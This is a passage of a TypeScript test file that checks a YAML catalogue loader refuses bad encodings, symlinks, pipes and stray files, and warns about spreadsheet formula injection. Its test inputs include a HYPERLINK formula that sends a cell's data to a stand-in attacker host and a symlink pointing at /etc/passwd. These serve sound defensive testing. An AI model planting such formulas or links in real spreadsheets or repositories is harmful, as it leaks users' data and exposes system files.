        { text: shiftJis(VALID) },
        [
          {
            field: '',
            line: 1,
            col: 1,
            words: [
              '文字コードが UTF-8 ではありません（Shift_JIS で保存されているようです）。UTF-8 で保存し直してください',
            ],
          },
        ],
        1,
      ),
  },
  {
    name: 'a file saved as UTF-16 (little-endian, with BOM)',
    make: () =>
      refuse(
        { text: utf16le(VALID, true) },
        [
          {
            field: '',
            line: 1,
            col: 1,
            words: ['文字コードが UTF-8 ではありません（UTF-16 で保存されているようです）'],
          },
        ],
        1,
      ),
  },
  {
    name: 'a file saved as UTF-16 (big-endian, with BOM)',
    make: () =>
      refuse({ text: utf16be(VALID) }, [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }], 1),
  },
  {
    name: 'a file saved as UTF-16 without a BOM',
    make: () =>
      refuse(
        { text: utf16le(VALID, false) },
        [{ field: '', line: 1, col: 1, words: ['UTF-16 で保存されているようです'] }],
        1,
      ),
  },
  {
    name: 'a file of bytes that are no known encoding',
    make: () =>
      refuse(
        { text: Buffer.concat([Buffer.from(VALID), Buffer.from([0xff, 0xfe, 0xfd, 0x80, 0x0a])]) },
        [{ field: '', line: 1, col: 1, words: ['文字コードが UTF-8 ではありません。UTF-8 で保存し直してください'] }],
        1,
      ),
  },
  {
    name: 'a UTF-8 file cut in the middle of a character',
    make: () => {
      const bytes = Buffer.from(VALID);
      return refuse(
        { text: Buffer.concat([bytes, Buffer.from('名', 'utf8').subarray(0, 2)]) },
        [{ field: '', line: 1, words: ['文字コードが UTF-8 ではありません'] }],
        1,
      );
    },
  },
  {
    name: 'the template form-b.yaml saved as Shift_JIS',
    make: () =>
      refuse(
        { then: (dir) => writeFileSync(join(dir, 'form-b.yaml'), shiftJis(readFileSync(TEMPLATE, 'utf8'))) },
        [{ file: 'form-b.yaml', field: '', line: 1, words: ['Shift_JIS で保存されているようです'] }],
        1,
      ),
  },

  // ---------------------------------------------------------------- files that are not plain files
  {
    name: 'a dangling symlink in services/',
    make: () =>
      refuse({ then: (dir) => symlinkSync(join(dir, 'nowhere.yaml'), join(dir, 'services', 'ip0002-1303.yaml')) }, [
        { file: 'services/ip0002-1303.yaml', field: '', line: 1, words: ['シンボリックリンクは使えません'] },
      ]),
  },
  {
    name: 'a symlink to a file outside the repository is not followed',
    make: () => {
      const outside = join(mkdtempSync(join(tmpdir(), 'aspic-outside-')), 'secret.yaml');
      removeLater(join(outside, '..'));
      writeFileSync(outside, second('IP0002-1303'));
      return refuse({ then: (dir) => symlinkSync(outside, join(dir, 'services', 'ip0002-1303.yaml')) }, [
        { file: 'services/ip0002-1303.yaml', field: '', line: 1, words: ['シンボリックリンクは使えません'] },
      ]);
    },
  },
  {
    name: 'the service file itself replaced by a symlink to a valid copy',
    make: () =>
      refuse(
        {
          then: (dir) => {
            renameSync(join(dir, 'services', FILE), join(dir, 'copy.txt'));
            symlinkSync(join(dir, 'copy.txt'), join(dir, 'services', FILE));
          },
        },
        [{ field: '', line: 1, words: ['シンボリックリンク'] }],
      ),
  },
  {
    name: 'the services folder is a symlink',
    make: () =>
      refuse(
        {
          then: (dir) => {
            renameSync(join(dir, 'services'), join(dir, 'real-services'));
            symlinkSync(join(dir, 'real-services'), join(dir, 'services'));
          },
        },
        [{ file: 'services', field: '', line: 1, words: ['シンボリックリンク'] }],
        1,
      ),
  },
  {
    name: 'the template form-b.yaml is a symlink',
    make: () =>
      refuse(
        {
          then: (dir) => {
            renameSync(join(dir, 'form-b.yaml'), join(dir, 'template.txt'));
            symlinkSync(join(dir, 'template.txt'), join(dir, 'form-b.yaml'));
          },
        },
        [{ file: 'form-b.yaml', field: '', line: 1, words: ['シンボリックリンク'] }],
      ),
  },
  {
    name: 'a symlink beside form-b.yaml in content/',
    make: () =>
      refuse(
        { then: (dir) => symlinkSync('/etc/passwd', join(dir, 'notes.yaml')) },
        [{ file: 'notes.yaml', field: '', line: 1, words: ['シンボリックリンク'] }],
        1,
      ),
  },
  {
    name: 'a named pipe (FIFO) in services/ is refused, never opened',
    make: () =>
      refuse({ then: (dir) => spawnSync('mkfifo', [join(dir, 'services', 'ip0002-1303.yaml')]) }, [
        { file: 'services/ip0002-1303.yaml', field: '', line: 1, words: ['通常のファイルではありません'] },
      ]),
  },
  {
    name: 'a folder inside services/, shown relative to the project',
    make: () =>
      refuse({ then: (dir) => mkdirSync(join(dir, 'services', 'drafts')) }, [
        { file: 'services/drafts', field: '', line: 1, words: ['フォルダは置けません'] },
      ]),
  },
  {
    name: 'a stray .yml file, shown relative to the project',
    make: () =>
      refuse({ extra: { 'ip0002-1303.yml': second('IP0002-1303') } }, [
        { file: 'services/ip0002-1303.yml', field: '', line: 1, words: ['拡張子は .yaml'] },
      ]),
  },
  {
    name: 'hidden files (.DS_Store) are left alone (accepted)',
    make: () => accept({ extra: { '.DS_Store': '\u0000\u0001' } }),
  },

  // ---------------------------------------------------------------- characters Excel reads as formulas: warned, not refused
  {
    name: 'a 事業者名称 that Excel would read as a formula (accepted, with a warning)',
    make: () =>
      accept(
        {
          text: edit(
            VALID,
            'providerName: 株式会社テスト\n',
            `providerName: '=HYPERLINK("http://evil.example/?x="&A2,"詳細")'\n`,
          ),
        },
        1,
        {
          warnings: [{ field: 'providerName', words: ['=', '数式', "'"] }],
        },
      ),
  },
  ...(['+', '-', '@'] as const).map((c) => ({
    name: `a サービス名称 starting with ${c} (accepted, with a warning)`,
    make: () =>
      accept({ text: named(`serviceName: "${c}テスト"`) }, 1, {
        warnings: [{ field: 'serviceName', words: [c, '数式'] }],
      }),
  })),
  {
    name: 'a サービス名称 starting with a TAB (accepted, with a warning)',
    make: () =>
      accept({ text: named('serviceName: "\\tテスト"') }, 1, {
        warnings: [{ field: 'serviceName', words: ['タブ', '数式'] }],
      }),
  },
  {
    name: 'a data-centre label =2+3 (accepted, with a warning)',
    make: () =>
      accept({ text: edit(VALID, '    label: 東京第1データセンター\n', "    label: '=2+3'\n") }, 1, {
        warnings: [{ field: 'dataCentres[0].label', words: ['=', '数式'] }],
      }),
  },
];

describe('bad data: one row per class of input', () => {
  test('the table covers at least 60 classes of input', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map((c) => c.name)).size, 'names are unique').toBe(CASES.length);
  });

  test.each(CASES.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const { setup, outcome } = c.make();
    const dir = catalogue(setup);
    const started = performance.now();
    if ('refused' in outcome) {
      const e = refused(dir);
      for (const want of outcome.refused) expectProblem(e, want);
      if (outcome.count !== undefined) expect(e.problems, e.message).toHaveLength(outcome.count);
    } else {
      const loaded = loadCatalogue(dir);
      expect(loaded.services).toHaveLength(outcome.accepted);
      const warnings: DataProblem[] = loaded.warnings;
      for (const w of outcome.warnings ?? []) {
        const found = warnings.find((p) => p.field === w.field && w.words.every((word) => p.message.includes(word)));
        expect(
          found,
          `no warning at ${w.field} with ${w.words.join(' / ')}; got ${JSON.stringify(warnings)}`,
        ).toBeDefined();
        expect(found!.file.endsWith(`services/${FILE}`) && !isAbsolute(found!.file)).toBe(true);
        expect(found!.line).toBeGreaterThan(1);
      }
      if (!outcome.warnings) expect(warnings).toEqual([]);
      outcome.check?.(loaded);
    }
    // Nothing in the table may make the loader slow: an alias bomb or deep nesting is refused at once.
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});

describe('the fast YAML path and the positional path read service files alike', () => {
  test('every sample service file gives the same value through both parsers', () => {
    const dir = join(ROOT, 'content', 'services');
    for (const name of readdirSync(dir)) {
      const text = readFileSync(join(dir, name), 'utf8');
      const { source, problems } = parseYaml(name, text, 'failsafe');
      expect(problems, name).toEqual([]);
      expect(parseFailsafeFast(text), name).toEqual(source.doc.toJS());
    }
  });

  test('a duplicate key is refused by the fast path too', () => {
    expect(() => parseFailsafeFast('a: 1\na: 2\n')).toThrow();
  });
});
